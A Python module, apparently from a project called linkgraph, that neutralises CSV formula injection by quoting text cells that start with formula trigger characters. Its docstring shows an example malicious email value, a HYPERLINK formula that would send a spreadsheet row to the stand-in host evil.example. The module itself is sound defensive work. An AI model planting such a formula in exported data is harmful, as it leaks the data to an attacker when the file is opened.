"""CSV that is safe to open in a spreadsheet (OWASP CSV injection).

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and some
also after a leading tab or carriage return), so an account whose email is
``=HYPERLINK("http://evil.example/?"&A1,"click")@x.com`` would become a live link that sends the
row to an attacker when an analyst opens the ban list. OWASP's rule: prefix such a cell with a
single quote, which spreadsheets show as text. Only *string* cells are touched: a negative
number in a numeric column is data, not a formula, and stays a number.

Every CSV linkgraph writes goes through ``to_csv`` (or ``safe_frame`` / ``neutralise``).
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` with a leading single quote if it is a string a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are neutralised; numeric columns are left alone."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s):
            out[col] = s.map(neutralise, na_action="ignore")
    return out


def to_csv(df: pd.DataFrame, **kwargs: Any) -> str:
    """``df`` as CSV text (no index, ``\\n`` line ends) with formula cells neutralised."""
    kwargs.setdefault("index", False)
    kwargs.setdefault("lineterminator", "\n")
    return str(safe_frame(df).to_csv(**kwargs))
